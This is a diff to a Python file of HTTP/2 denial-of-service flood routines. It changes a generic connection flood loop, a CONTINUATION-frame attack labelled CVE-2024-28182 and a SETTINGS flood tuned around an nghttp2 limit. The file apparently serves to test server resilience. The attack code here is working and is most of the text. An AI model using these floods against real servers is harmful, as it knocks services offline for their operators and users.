@@ -28,15 +28,16 @@ def ending(peer):
     return "closed" if peer.ended else "open"
 
 
-def flood(address, until, opening, burst):
-    """One connection after the other, each as fast as the server takes it. burst(n): the n-th bytes."""
+def flood(address, until, opening, burst, answers=0):
+    """One connection after the other, each as fast as the server takes it, and answers so many frames for
+    each burst. burst(n): the n-th bytes."""
     ends = collections.Counter()
     while time.monotonic() < until:
         peer = Connection(address)
         peer.say(opening)
         count = 0
         while not peer.ended and time.monotonic() < until:
-            if not peer.unsaid:
+            if not peer.unsaid and len(peer.frames) >= answers * count:
                 peer.say(burst(count))
                 count += 1
             peer.turn(0.01)
@@ -71,14 +72,15 @@ def made_you_reset(address, until):
 
 
 def continuation(address, until):
-    """CVE-2024-28182: a header block without end."""
+    """CVE-2024-28182: a header block without end, in parts with nothing in them."""
     opening = frame(HEADERS, END_STREAM, 1, head(b"GET", b"/state"))
-    return flood(address, until, opening, same(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))))
+    return flood(address, until, opening, same(frame(CONTINUATION, 0, 1)))
 
 
 def settings_flood(address, until):
     pair = settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 65535))
-    return flood(address, until, b"", same(pair))
+    burst = pair * (BURST // 2)  # nghttp2 has a limit for those whose ACK waits: here, none does for long
+    return flood(address, until, b"", lambda count: burst, answers=BURST)
 
 
 def ping_flood(address, until):
